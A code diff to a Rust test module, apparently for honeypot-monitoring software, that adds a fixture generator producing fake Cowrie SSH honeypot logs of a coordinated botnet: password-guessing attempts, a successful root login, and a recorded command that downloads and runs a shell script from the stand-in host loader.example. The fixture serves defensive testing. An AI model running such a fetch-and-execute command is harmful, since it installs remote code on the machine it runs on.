@@ -31,6 +31,35 @@ pub(crate) fn cowrie(sessions: usize) -> String {
     out
 }
 
+/// A herd that works for one master, a few minutes ago: the same list, the same commands, the same file, from so many
+/// documentation addresses, each twice.
+pub(crate) fn herd(sources: usize) -> String {
+    let sha = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
+    let start = base::Env::system().now().plus_secs(-300);
+    let mut out = String::new();
+    for n in 0..sources * 2 {
+        let source = format!("198.51.100.{}", n % sources + 20);
+        let mut second = n as i64 * 2;
+        let mut line = |event: &str, more: Value| {
+            let mut whole = json!({"eventid": event, "session": format!("{n:012x}"), "src_ip": source, "sensor": "pot-1",
+                "protocol": "ssh", "timestamp": start.plus_secs(second).rfc3339()});
+            whole.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+            out += &format!("{whole}\n");
+            second += 1;
+        };
+        line("cowrie.session.connect", json!({"src_port": 4000, "dst_ip": "192.0.2.1", "dst_port": 22}));
+        for password in ["admin", "root", "toor"] {
+            line("cowrie.login.failed", json!({"username": "root", "password": password}));
+        }
+        line("cowrie.login.success", json!({"username": "root", "password": "123456"}));
+        line("cowrie.command.input", json!({"input": "cd /tmp; wget http://loader.example/x86.sh; sh x86.sh"}));
+        let file = json!({"url": "http://loader.example/x86.sh", "outfile": "dl/x", "shasum": sha});
+        line("cowrie.session.file_download", file);
+        line("cowrie.session.closed", json!({"duration": 8.0}));
+    }
+    out
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn ready_within_a_second_and_routes_keep_their_rules() {
     each_store(async |store| {
@@ -64,7 +93,7 @@ async fn ready_within_a_second_and_routes_keep_their_rules() {
                 }
             }
         }
-        let expected = ["/api/v1/enrol/edge", "/api/v1/enrol/sensor", "/healthz", "/readyz"];
+        let expected = ["/api/v1/enrol/edge", "/api/v1/enrol/sensor", "/api/v1/session", "/healthz", "/readyz"];
         assert_eq!(public.into_iter().collect::<Vec<_>>(), expected);
         assert!(centre.stop().success());
     })
